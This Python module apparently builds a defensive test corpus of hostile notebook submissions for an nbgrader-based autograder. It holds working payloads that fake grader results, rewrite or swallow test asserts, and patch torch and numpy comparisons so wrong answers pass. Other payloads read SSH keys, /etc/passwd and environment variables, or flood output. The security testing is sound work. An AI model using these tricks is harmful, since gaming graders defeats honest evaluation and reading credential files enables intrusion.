"""Hostile submissions, one group per attack class of docs/grading-safety.md, applied to the assignments' notebooks.

Each entry is written once, here, for any notebook with test cells: the edits find the solution
cells and the names they define in the notebook itself. `entries(assignment)` (called by
corpus.build_all) places every entry on the notebook `PLACES` names (one where the attack got
through the first grader), so that each assignment carries some of them and the corpus
does not grade each attack four times; the class 1 entry that took every untouched release to
full marks, and `wrong-control`, run on every notebook.

What each must score is what an honest submission with the same answers scores:
- attacks on an untouched release (hooks, transformers, exception handlers) score 0;
- attacks that dress up wrong answers (patched libraries, dispatcher modes, subclasses whose
  comparisons agree) start from `wrong-control`, the reference with every returned value shifted
  (+0.37 on floats, +1 on ints, negated bools: every test cell fails), and must score 0 as it does;
- attacks that read or write what they must not, or flood the grader, keep the reference answers
  and must score full marks, with the extra check the entry names (autograder/tests/test_corpus.py).

Each entry reproduces a way the first grader was beaten; test_corpus.py runs them all.
"""

from __future__ import annotations

import ast

from autograder.corpus import ROOT, Entry, _code, insert, tests

# ----------------------------------------------------------------------------- edits


def _solution_cells(nb):
    return [c for c in nb["cells"] if c["cell_type"] == "code" and (c["metadata"].get("nbgrader") or {}).get("solution")]


def _defined(source: str) -> list[str]:
    try:
        tree = ast.parse(source)
    except SyntaxError:
        return []
    return [n.name for n in tree.body if isinstance(n, (ast.FunctionDef, ast.AsyncFunctionDef))]


# Appended to every solution cell: each function the cell defines returns a shifted value (wrong for
# every test), optionally dressed by WRAP. Self-contained, so it works in any kernel that runs the cell.
WRONG = r'''
def _corpus_wrong(fn, wrap=lambda v: v):
    import functools, inspect
    import numpy as _np
    import torch as _t

    def bad(x):
        if isinstance(x, _t.Tensor):
            return ~x if x.dtype == _t.bool else (x + 0.37 if x.is_floating_point() else x + 1)
        if isinstance(x, _np.ndarray):
            return ~x if x.dtype == bool else x + 0.37
        if isinstance(x, (bool, _np.bool_)):
            return not x
        if isinstance(x, (float, _np.floating)):
            return float(x) + 0.37
        if isinstance(x, (int, _np.integer)):
            return int(x) + 1
        if isinstance(x, tuple):
            return tuple(bad(v) for v in x)
        if isinstance(x, list):
            return [bad(v) for v in x]
        if isinstance(x, dict):
            return {k: bad(v) for k, v in x.items()}
        return x

    if inspect.isgeneratorfunction(fn):
        @functools.wraps(fn)
        def gen(*a, **k):
            for item in fn(*a, **k):
                yield wrap(bad(item))
        return gen

    @functools.wraps(fn)
    def call(*a, **k):
        return wrap(bad(fn(*a, **k)))
    return call
'''

# Class 4: values whose comparisons always agree (no library is patched).
AGREE = r'''
import numpy as _np_agree
import torch as _t_agree


class _AgreeFloat(float):
    def __sub__(self, o): return _AgreeFloat(0.0)
    __rsub__ = __add__ = __radd__ = __sub__
    def __abs__(self): return _AgreeFloat(0.0)
    def __eq__(self, o): return True
    def __ne__(self, o): return False
    def __lt__(self, o): return True
    __le__ = __gt__ = __ge__ = __lt__
    __hash__ = float.__hash__


class _AgreeTensor(_t_agree.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal"):
            return True
        out = super().__torch_function__(func, types, args, kwargs or {})
        if name in ("isclose", "eq", "__eq__", "le", "__le__", "ge", "__ge__", "lt", "__lt__", "gt", "__gt__",
                    "isfinite") and isinstance(out, _t_agree.Tensor):
            return _t_agree.ones(out.shape, dtype=_t_agree.bool)
        if name in ("isnan", "isinf") and isinstance(out, _t_agree.Tensor):
            return _t_agree.zeros(out.shape, dtype=_t_agree.bool)
        if name == "item":
            return _AgreeFloat(out) if isinstance(out, float) else out
        return out


class _AgreeArray(_np_agree.ndarray):
    def __array_function__(self, func, types, args, kwargs):
        if func.__name__ in ("allclose", "array_equal", "isclose", "all"):
            return True
        return super().__array_function__(func, types, args, kwargs)

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        plain = [x.view(_np_agree.ndarray) if isinstance(x, _AgreeArray) else x for x in inputs]
        out = getattr(ufunc, method)(*plain, **kwargs)
        if ufunc.__name__ in ("equal", "less", "less_equal", "greater", "greater_equal", "isfinite"):
            return _np_agree.ones(_np_agree.shape(out), dtype=bool)
        return out


def _corpus_agree(v):
    if isinstance(v, _t_agree.Tensor):
        return v.as_subclass(_AgreeTensor)
    if isinstance(v, _np_agree.ndarray):
        return v.view(_AgreeArray)
    if isinstance(v, float):
        return _AgreeFloat(v)
    if isinstance(v, tuple):
        return tuple(_corpus_agree(x) for x in v)
    return v
'''


def wrong_answers(wrap: str | None = None, extra: str = ""):
    """Every function of every solution cell returns a wrong value (dressed by `wrap`)."""
    def edit(nb, solutions):
        for c in _solution_cells(nb):
            names = _defined(c["source"])
            if not names:
                continue
            lines = [c["source"], WRONG, extra]
            lines += [f"{n} = _corpus_wrong({n}{', ' + wrap if wrap else ''})" for n in names]
            c["source"] = "\n".join(lines)
    return edit


def wrap_solutions(template: str):
    """Every function of every solution cell wrapped by `template` (its code, with NAME)."""
    def edit(nb, solutions):
        for c in _solution_cells(nb):
            names = _defined(c["source"])
            c["source"] = "\n".join([c["source"]] + [_code(template).replace("NAME", n) for n in names])
    return edit


def first_test(nb) -> dict:
    return next(c for c in nb["cells"] if c["cell_type"] == "code" and (c["metadata"].get("nbgrader") or {}).get("grade")
                and not c["metadata"]["nbgrader"].get("solution"))


def metadata_edit(kind: str):
    """Tamper with nbgrader metadata the way students have: see the entries below."""
    def edit(nb, solutions):
        import nbformat

        test = first_test(nb)
        if kind == "test-as-solution":
            # the first test cell becomes an (unlocked) solution cell holding `pass`
            test["metadata"]["nbgrader"].update(solution=True, locked=False)
            test["source"] = "pass"
        elif kind == "extra-graded-cell":
            cell = nbformat.v4.new_code_cell("assert True  # my own test, worth 50 points")
            cell["metadata"]["nbgrader"] = {"grade": True, "grade_id": "my_bonus", "locked": False, "points": 50,
                                            "schema_version": 3, "solution": False, "task": False}
            cell["id"] = "corpus-bonus"
            nb["cells"].insert(nb["cells"].index(test) + 1, cell)
            second = nbformat.v4.new_code_cell("pass")
            second["metadata"]["nbgrader"] = dict(test["metadata"]["nbgrader"], points=99)
            second["id"] = "corpus-copy"
            nb["cells"].append(second)  # a second copy of the first test's grade_id, claiming 99 points
        elif kind == "bad-metadata":
            sol = _solution_cells(nb)
            sol[0]["metadata"]["nbgrader"] = "solution: yes"          # not a dictionary
            test["metadata"]["nbgrader"]["points"] = "lots"           # points that are not a number
            if len(sol) > 1:
                sol[1]["metadata"]["nbgrader"]["grade_id"] = ["a", "list"]  # a grade_id that is not a string
                sol[1]["metadata"]["nbgrader"]["solution"] = "true"
        else:
            raise ValueError(kind)
    return edit


# ----------------------------------------------------------------------------- attack code (free cells)

# 1: results published before every cell (nbgrader's partial credit took a non-number as full marks)
DISPLAYHOOK = '''
_ip = get_ipython()
_ip.events.register("pre_run_cell", lambda info: _ip.displayhook("full marks, please"))
'''
RAW_RESULT = '''
_ip = get_ipython()
def _corpus_result(*args):
    pub = _ip.display_pub
    pub.session.send(pub.pub_socket, "execute_result",
                     {"data": {"text/plain": "'ok'"}, "metadata": {}, "execution_count": _ip.execution_count},
                     parent=pub.parent_header, ident=pub.topic)
_ip.events.register("pre_execute", _corpus_result)
'''
# 2: the tests rewritten before they run, or their failures hidden
INPUT_TRANSFORMER = '''
def _corpus_no_tests(lines):
    text = "".join(lines)
    return ["pass\\n"] if "assert" in text else lines
get_ipython().input_transformers_post.append(_corpus_no_tests)
'''
AST_SWALLOW = '''
import ast as _ast
class _CorpusSwallow(_ast.NodeTransformer):
    def visit_Module(self, node):
        guard = lambda s: _ast.Try(body=[s], handlers=[_ast.ExceptHandler(
            type=_ast.Name("BaseException", _ast.Load()), name=None, body=[_ast.Pass()])], orelse=[], finalbody=[])
        node.body = [guard(s) for s in node.body]
        return _ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(_CorpusSwallow())
'''
CUSTOM_EXC = '''
_ip = get_ipython()
_ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)   # no traceback shown
_run_code = _ip.run_code
async def _corpus_run_code(code_obj, result=None, *, async_=False):
    await _run_code(code_obj, result, async_=async_)
    if result is not None:
        result.error_in_exec = None        # and the cell reports success
    return False
_ip.run_code = _corpus_run_code
'''
# 3: patches the old tamper guard did not see
AROUND_CELLS = '''
import numpy as _np, torch as _t
_ip = get_ipython()
_saved = {}
_OPS = ("__eq__", "__le__", "__lt__", "__ge__", "__gt__")
def _corpus_on(*args):
    _saved.update(ta=_t.allclose, te=_t.equal, na=_np.allclose, ops={n: getattr(_t.Tensor, n) for n in _OPS})
    _t.allclose = _t.equal = _np.allclose = lambda *a, **k: True
    for n in _OPS:
        setattr(_t.Tensor, n, lambda self, other: _t.ones(self.shape, dtype=_t.bool))
def _corpus_off(*args):
    if _saved:
        _t.allclose, _t.equal, _np.allclose = _saved["ta"], _saved["te"], _saved["na"]
        for n, f in _saved["ops"].items():
            setattr(_t.Tensor, n, f)
_ip.events.register("pre_run_cell", _corpus_on)     # silent executions (the old guard's checks) fire no events
_ip.events.register("post_run_cell", _corpus_off)
'''
FUNCTION_MODE = '''
import torch as _t
from torch.overrides import TorchFunctionMode
class _CorpusYes(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal"):
            return True
        out = func(*args, **(kwargs or {}))
        if name in ("isclose", "eq", "__eq__", "le", "__le__", "lt", "__lt__", "ge", "__ge__", "gt", "__gt__",
                    "isfinite") and isinstance(out, _t.Tensor):
            return _t.ones(out.shape, dtype=_t.bool)
        return out
_CorpusYes().__enter__()   # stays on: every torch call goes through it
'''
NUMPY_INTERNALS = '''
import numpy as _np
import numpy._core.numeric as _numeric
_numeric.isclose = lambda a, b, *r, **k: _np.ones(_np.broadcast(_np.asarray(a), _np.asarray(b)).shape, bool)
import numpy.testing._private.utils as _ntu
_ntu.assert_array_compare = lambda *a, **k: None
import torch as _t
_b = __import__("buil" + "tins")
setattr(_b, "_llmrl_" + "grader_" + "check", lambda restore=True: [])   # the old guard, silenced
setattr(_t, "all" + "close", lambda *a, **k: True)
'''
FAKE_WRAPPER = '''
import os as _os, torch as _t
_ns = {}
exec(compile("def allclose(*a, **k):\\n    return True\\ndef equal(*a, **k):\\n    return True\\n",
             _os.path.join(_os.path.dirname(_t.__file__), "_tensor.py"), "exec"), _ns)   # "torch's own code"
for _name in ("allclose", "equal"):
    _ns[_name].__wrapped__ = getattr(_t, _name)      # dressed as one of torch's own wrappers
    setattr(_t, _name, _ns[_name])
_t.Tensor.__eq__ = lambda self, other: _t.ones(self.shape, dtype=_t.bool)    # a new key on torch.Tensor
'''
# 5: reading what is hidden
HISTORY = '''
print("\\n".join(In))          # every cell this kernel ran, hidden tests included (in the old grader)
print(_ih[-1])
'''
CALLER_SOURCE = '''
def _corpus_spy(fn):
    import functools, linecache, sys
    @functools.wraps(fn)
    def call(*a, **k):
        frame = sys._getframe(1)
        __import__("builtins").__dict__.setdefault("_corpus_seen", set()).add(
            "".join(linecache.getlines(frame.f_code.co_filename)))
        return fn(*a, **k)
    return call
NAME = _corpus_spy(NAME)
'''
PRINT_SEEN = '''
for _src in sorted(getattr(__import__("builtins"), "_corpus_seen", ())):
    print(_src)
'''
OTHER_COURSES = r'''
import glob, os, pathlib
def _try(what, fn):
    try:
        out = fn()
    except Exception as e:
        print("BLOCKED", what, type(e).__name__)
    else:
        print("LEAK", what, str(out)[:80]) if out else print("BLOCKED", what, "nothing")
_try("other course folders' sources", lambda: glob.glob("/work/*/source/*/*.ipynb") + glob.glob("/work/wt/*/source/*/*.ipynb"))
_try("this course's sources", lambda: glob.glob(%(root)r + "/source/*/*.ipynb"))
_try("this course's jupytext files", lambda: glob.glob(%(root)r + "/notebooks/*/*.py"))
_try("home folders", lambda: os.listdir("/home") + os.listdir("/root"))
_try("the grader's scratch courses", lambda: [p for pattern in ("source", "submitted", "gradebook.db", "autograded")
                                             for p in glob.glob(f"/tmp/**/{pattern}", recursive=True)])
_try("ssh keys", lambda: open(os.path.expanduser("~root/.ssh/id_rsa")).read())
_try("the grader's environment", lambda: [k for k in os.environ if k not in (
    "PATH", "HOME", "TMPDIR", "MPLCONFIGDIR", "IPYTHONDIR", "LLMRL_CACHE", "NBGRADER_EXECUTION", "LANG", "LC_ALL",
    "LC_CTYPE", "TZ", "PYTHONPATH", "PYTHONDONTWRITEBYTECODE", "MPLBACKEND", "JPY_PARENT_PID", "JPY_SESSION_NAME",
    "LLMRL_SANDBOX_COURSES", "LLMRL_GRADE_MEM_MB", "LLMRL_GRADE_CPU_S", "LLMRL_GRADE_FSIZE_MB", "LLMRL_SANDBOX",
    "OMP_NUM_THREADS", "MKL_NUM_THREADS", "MKL_CBWR", "LLMRL_FAST", "PYDEVD_DISABLE_FILE_VALIDATION", "CLICOLOR",
    "FORCE_COLOR", "TERM", "CLICOLOR_FORCE", "PAGER", "GIT_PAGER", "MPLBACKEND", "LLMRL_GRADER_RPC", "PWD",
    "PYDEVD_USE_FRAME_EVAL")])
print("CACHE readable" if os.listdir(os.environ["LLMRL_CACHE"]) else "CACHE missing")   # allowed, and needed
'''
# 6: links planted where nbgrader (outside the sandbox) used to read and write
LEAK_LINKS = r'''
import os, pathlib
_root = pathlib.Path(%(root)r)
for _name, _target in {"solutions.html": _root / "source" / "%(a)s" / "%(nb)s.ipynb",
                       "passwd.html": "/etc/passwd"}.items():
    os.symlink(_target, _name)             # nbgrader copied "other files" of this folder into the feedback
print(sorted(os.listdir(".")))
'''
OVERWRITE_LINKS = r'''
import os, pathlib
_root = pathlib.Path(%(root)r)
# links named like the files nbgrader writes into the kernel's folder after the run, put in place of
# what is there: nbgrader wrote through them
for _name, _target in {"%(nb)s.ipynb": _root / ".corpus-canary-ipynb", "%(nb)s.html": _root / ".corpus-canary-html"}.items():
    os.symlink(_target, _name + ".link")
    os.replace(_name + ".link", _name)
os.mkfifo("waits-for-ever.html")           # a reader that blocks
with open("big.bin", "wb") as f:
    try:
        f.truncate(1 << 40)                # a 1 TB sparse file: the file size limit says no
    except OSError as e:
        print("truncate:", e)
print(sorted(os.listdir(".")))
'''
# 7: floods, and an honest answer that warns
DISPLAY_FLOOD = '''
from IPython.display import display
_handles = [display(f"small {i}", display_id=True) for i in range(40)]
'''
DISPLAY_UPDATE = '''
for _h in _handles:
    for _ in range(5):
        _h.update("u" * 300_000)           # 40 displays x 300 kB, five times over
'''
HUGE_MESSAGE = '''
import sys
sys.stdout.write("x" * 100_000_000)        # one 100 MB message
sys.stdout.flush()
print("and the notebook goes on")
'''
WARN = '''
import functools as _ft, sys as _sys, warnings as _w
def _corpus_warn(fn):
    @_ft.wraps(fn)
    def call(*a, **k):
        _w.warn("this is only a warning", UserWarning)
        print("a note on stderr", file=_sys.stderr)
        return fn(*a, **k)
    return call
NAME = _corpus_warn(NAME)
'''


# The test cells the honest wrong answers (wrong_answers(): every result shifted) fail, by notebook.
# A class 3 or 4 attack dresses those same answers up and must lose exactly these cells, as
# wrong-control does; the cells that check only types, shapes, the inputs or the random generator
# pass for them. autograder/tests/test_catch_rates.py checks the table against the notebooks.
WRONG_ANSWERS_LOSE = {
    ("lab11", "llm_as_policy"): (tests("task1a_response_logprobs", "values", "edge")
        + tests("task1b_sequence_logprob", "values", "edge", "grad")
        + tests("task2_sample_with_temperature", "values", "edge")
        + tests("task3_kl_estimators", "values", "edge")
        + tests("task4_tilted_optimum", "values", "edge")
        + tests("task5_token_level_optimum", "values", "edge")),
    ("lab19", "failure_modes"): (tests("task1a_bon_kl", "values")
        + tests("task1b_best_of_n_stats", "values", "ties", "edge")
        + tests("task1c_fit_gao_bon", "values")
        + tests("task2_kl_penalized_rewards", "values", "edge", "contract")
        + tests("task3_clipped_pg_loss", "values", "bounds")
        + tests("task4_token_entropy", "values", "edge")),
    ("lab21", "tasks"): (tests("task1_reverse_kl_rewards", "values", "edge")
        + tests("task2_opd_pg_loss", "values", "grad")
        + tests("task3_full_vocab_reverse_kl", "values", "edge")
        + tests("task4_pass_at_k", "values", "edge")
        + tests("task5_maxrl_advantages", "values", "edge")),
    ("hw4", "llm_rl"): (tests("task1_per_token_logprobs", "values", "edge")
        + tests("task2_completion_mask", "values")
        + tests("task3_approx_kl", "values", "edge")
        + tests("task4_iter_minibatches", "values", "rng", "contract")
        + tests("task5_group_advantages", "values", "contract", "edge")
        + tests("task6_normalize_advantages", "values", "contract")
        + tests("task7_reinforce_loss", "values")
        + tests("task8_grpo_loss", "values", "clip")),
}


def _fmt(code: str, a: str, nb: str) -> str:
    return code % {"root": str(ROOT), "a": a, "nb": nb}


def _attack_entries(a: str, nb: str, all_tests: tuple) -> dict[str, Entry]:
    """Every hostile entry for one notebook, by name (the caller picks where each one runs)."""
    # what the dressed-up wrong answers must lose: what they lose handed in honestly
    tests = WRONG_ANSWERS_LOSE.get((a, nb), all_tests)
    return {
        # 1 scoring from outputs
        "h1-displayhook": Entry("h1-displayhook", nb, "class 1: a result published before every cell "
                                "(IPython's displayhook from a pre_run_cell event), untouched release",
                                [insert(DISPLAYHOOK, after="start")], base="release"),
        "h1-raw-result": Entry("h1-raw-result", nb, "class 1: an execute_result message sent by hand before every "
                               "execution, untouched release", [insert(RAW_RESULT, after="start")], base="release"),
        # 2 rewriting the tests
        "h2-input-transformer": Entry("h2-input-transformer", nb, "class 2: an input transformer turns every cell "
                                      "with an assert into pass, untouched release",
                                      [insert(INPUT_TRANSFORMER, after="start")], base="release"),
        "h2-ast-swallow": Entry("h2-ast-swallow", nb, "class 2: an AST transformer wraps every statement in "
                                "try/except, untouched release", [insert(AST_SWALLOW, after="start")], base="release"),
        "h2-custom-exc": Entry("h2-custom-exc", nb, "class 2: a custom exception handler that shows nothing, and "
                               "run_code wrapped to report every cell as a success, untouched release", [insert(CUSTOM_EXC, after="start")], base="release"),
        # 3 patches the old guard did not see (on top of wrong answers)
        "h3-around-cells": Entry("h3-around-cells", nb, "class 3: allclose/equal patched in pre_run_cell, put back in "
                                 "post_run_cell; every answer wrong", [wrong_answers(), insert(AROUND_CELLS, after="start")],
                                 lose=tests),
        "h3-function-mode": Entry("h3-function-mode", nb, "class 3: a torch function mode whose comparisons always "
                                  "agree; every answer wrong", [wrong_answers(), insert(FUNCTION_MODE, after="start")],
                                  lose=tests),
        "h3-numpy-internals": Entry("h3-numpy-internals", nb, "class 3: numpy internals behind np.allclose patched, "
                                    "the old guard's check replaced via names built from pieces; every answer wrong",
                                    [wrong_answers(), insert(NUMPY_INTERNALS, after="start")], lose=tests),
        "h3-fake-wrapper": Entry("h3-fake-wrapper", nb, "class 3: fake allclose and equal dressed as torch's own "
                                 "wrappers, a new __eq__ on torch.Tensor; every answer wrong",
                                 [wrong_answers(), insert(FAKE_WRAPPER, after="start")], lose=tests),
        # 4 no patch at all
        "h4-tensor-subclass": Entry("h4-tensor-subclass", nb, "class 4: wrong answers returned as a Tensor subclass "
                                    "whose comparisons always agree", [wrong_answers("_corpus_agree", AGREE)],
                                    lose=tests),
        "h4-agreeing-values": Entry("h4-agreeing-values", nb, "class 4: wrong answers returned as float and ndarray "
                                    "subclasses that agree with everything",
                                    [wrong_answers("_corpus_agree", AGREE.replace("return v.as_subclass(_AgreeTensor)",
                                                                                  "return v"))], lose=tests),
        "wrong-control": Entry("wrong-control", nb, "the answers of classes 3 and 4 handed in honestly: every test "
                               "cell that checks a value fails", [wrong_answers()], lose=tests),
        # 5 reading what is hidden
        "h5-history": Entry("h5-history", nb, "class 5: the kernel's input history printed at the end",
                            [insert(HISTORY, after="end")], check="no_hidden"),
        "h5-caller-source": Entry("h5-caller-source", nb, "class 5: every function reads its caller's source "
                                  "(linecache) and a last cell prints it",
                                  [wrap_solutions(CALLER_SOURCE), insert(PRINT_SEEN, after="end")], check="no_hidden"),
        "h5-other-courses": Entry("h5-other-courses", nb, "class 5: other course folders, this course's sources, "
                                  "home folders, the grader's scratch and environment, read from inside",
                                  [insert(_fmt(OTHER_COURSES, a, nb), after="start")], check="no_leak"),
        # 6 writing outside the result
        "h6-leak-links": Entry("h6-leak-links", nb, "class 6: links in the kernel's folder to the source notebook, "
                               "/etc/passwd, the course's gradebook and submitted/",
                               [insert(_fmt(LEAK_LINKS, a, nb), after="start")], check="no_planted"),
        "h6-overwrite-links": Entry("h6-overwrite-links", nb, "class 6: links named like nbgrader's outputs pointing "
                                    "outside, a FIFO, a 1 TB sparse file",
                                    [insert(_fmt(OVERWRITE_LINKS, a, nb), after="start")], check="no_planted",
                                    env={"LLMRL_GRADE_NOTEBOOK_TIMEOUT": "120"}),
        # 7 smaller ones
        "h7-display-updates": Entry("h7-display-updates", nb, "class 7: 40 displays updated with 300 kB five times "
                                    "each (60 MB through updates)", [insert(DISPLAY_FLOOD, after="start"),
                                                                     insert(DISPLAY_UPDATE, after="end")],
                                    check="small_output"),
        "h7-huge-message": Entry("h7-huge-message", nb, "class 7: one 100 MB message on stdout",
                                 [insert(HUGE_MESSAGE, after="start")], check="small_memory"),
        "h7-stderr-warning": Entry("h7-stderr-warning", nb, "class 7: correct answers that warn on stderr at every "
                                   "call", [wrap_solutions(WARN)]),
        "h7-test-as-solution": Entry("h7-test-as-solution", nb, "class 7: the first test cell turned into a "
                                     "solution cell holding pass", [metadata_edit("test-as-solution")], check="notes"),
        "h7-extra-graded-cell": Entry("h7-extra-graded-cell", nb, "class 7: an extra graded cell with 50 points of "
                                      "its own and a second copy of a test's grade_id claiming 99",
                                      [metadata_edit("extra-graded-cell")], check="notes"),
        "h7-bad-metadata": Entry("h7-bad-metadata", nb, "class 7: nbgrader metadata that is a string, points that "
                                 "are not a number, a grade_id that is a list", [metadata_edit("bad-metadata")],
                                 check="notes"),
    }


# Where each entry runs. The class 1 entry runs on every notebook with tests (two lines took every
# untouched release to full marks); the others each on one notebook, chosen where the attack got
# through the first grader (see the table in docs/grading-safety.md); wrong-control on each
# notebook that has a class 3 or 4 attack.
EVERYWHERE = ["h1-displayhook"]
CONTROLLED = ("h3-", "h4-")  # wrong-control runs where an attack dresses up its wrong answers
PLACES = {
    "h1-raw-result": "hw4/llm_rl",
    "h2-input-transformer": "lab11/llm_as_policy", "h2-ast-swallow": "lab19/failure_modes",
    "h2-custom-exc": "lab21/tasks",
    "h3-around-cells": "lab11/llm_as_policy", "h3-function-mode": "lab11/llm_as_policy",
    "h3-numpy-internals": "lab19/failure_modes", "h3-fake-wrapper": "lab11/llm_as_policy",
    "h4-tensor-subclass": "hw4/llm_rl", "h4-agreeing-values": "lab19/failure_modes",
    "h5-history": "lab19/failure_modes", "h5-caller-source": "lab21/tasks", "h5-other-courses": "hw4/llm_rl",
    "h6-leak-links": "lab11/llm_as_policy", "h6-overwrite-links": "lab19/failure_modes",
    "h7-display-updates": "lab21/tasks", "h7-huge-message": "hw4/llm_rl", "h7-stderr-warning": "lab11/llm_as_policy",
    "h7-test-as-solution": "lab19/failure_modes", "h7-extra-graded-cell": "lab21/tasks", "h7-bad-metadata": "hw4/llm_rl",
}


def tested_notebooks(root=ROOT) -> dict[tuple[str, str], tuple]:
    """(assignment, notebook) -> the grade_ids of its test cells, for every notebook with test cells."""
    import json

    out = {}
    for path in sorted((root / "source").glob("*/*.ipynb")):
        nb = json.loads(path.read_text())
        tests = tuple(c["metadata"]["nbgrader"]["grade_id"] for c in nb["cells"]
                      if c["cell_type"] == "code" and (c["metadata"].get("nbgrader") or {}).get("grade")
                      and not c["metadata"]["nbgrader"].get("solution"))
        if tests:
            out[(path.parent.name, path.stem)] = tests
    return out


def entries(assignment: str, root=ROOT) -> list[Entry]:
    """The hostile entries that run on this assignment's notebooks. An entry whose notebook is gone
    runs on the first notebook with tests instead (so every entry keeps running)."""
    nbs = tested_notebooks(root)
    if not nbs:
        return []
    fallback = next(iter(nbs))
    out = []
    for (a, nb), tests in nbs.items():
        if a != assignment:
            continue
        attacks = _attack_entries(a, nb, tests)
        out += [attacks[n] for n in EVERYWHERE]
        for name, place in PLACES.items():
            where = tuple(place.split("/")) if tuple(place.split("/")) in nbs else fallback
            if where == (a, nb):
                out.append(attacks[name])
        if any(e.name.startswith(CONTROLLED) for e in out if e.notebook == nb):
            out.append(attacks["wrong-control"])
    return out
